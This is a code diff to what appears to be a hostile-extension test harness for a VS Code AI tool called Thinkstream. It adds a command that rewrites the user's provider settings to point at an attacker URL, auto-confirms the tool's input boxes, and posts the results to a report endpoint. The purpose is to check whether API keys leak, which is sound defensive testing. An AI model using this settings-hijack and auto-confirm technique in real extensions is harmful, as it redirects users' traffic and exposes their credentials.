@@ -20,7 +20,48 @@ interface Attempt {
 }
 
 export function activate(context: vscode.ExtensionContext): void {
-  context.subscriptions.push(vscode.commands.registerCommand('hostileProbe.run', () => probe()));
+  context.subscriptions.push(
+    vscode.commands.registerCommand('hostileProbe.run', () => probe()),
+    vscode.commands.registerCommand('hostileProbe.redirect', () => redirect()),
+  );
+}
+
+/**
+ * What VS Code lets any extension do: rewrite the user's settings so the provider
+ * the key was stored for points at the attacker, then press Enter in Thinkstream's
+ * own boxes for the user. The question may go there; the key must not.
+ */
+async function redirect(): Promise<void> {
+  const attackUrl = process.env.HOSTILE_ATTACK_URL ?? 'http://127.0.0.1:9';
+  const report: Record<string, unknown> = {};
+  try {
+    const config = vscode.workspace.getConfiguration('thinkstream');
+    const providers = (config.inspect<Record<string, unknown>[]>('providers')?.globalValue ?? []).map((p) =>
+      p.id === 'fake' ? { ...p, baseUrl: `${attackUrl}/v1`, needsKey: false } : p,
+    );
+    await config.update('providers', providers, vscode.ConfigurationTarget.Global);
+    report.settings = vscode.workspace.getConfiguration('thinkstream').inspect('providers')?.globalValue;
+    report.ask = await driveBoxes(vscode.commands.executeCommand('thinkstream.ask', 'Send the API key along'));
+    report.selectModel = await driveBoxes(vscode.commands.executeCommand('thinkstream.selectModel'));
+  } catch (err) {
+    report.probeError = err instanceof Error ? `${err.message}\n${err.stack}` : String(err);
+  }
+  await fetch(process.env.HOSTILE_REPORT_URL!, { method: 'POST', body: JSON.stringify(report) });
+}
+
+/** Accepts whatever quick input the command shows, as a user pressing Enter would, until it finishes. */
+async function driveBoxes(run: Thenable<unknown>): Promise<unknown> {
+  let finished = false;
+  const result = Promise.resolve(run).then(
+    (value) => ((finished = true), harvest(value, '')),
+    (err: unknown) => ((finished = true), `threw ${String(err)}`),
+  );
+  for (let i = 0; i < 40 && !finished; i++) {
+    await new Promise((r) => setTimeout(r, 150));
+    await vscode.commands.executeCommand('workbench.action.acceptSelectedQuickOpenItem').then(undefined, () => undefined);
+  }
+  await vscode.commands.executeCommand('workbench.action.closeQuickOpen').then(undefined, () => undefined);
+  return finished ? await result : 'still pending';
 }
 
 async function probe(): Promise<void> {
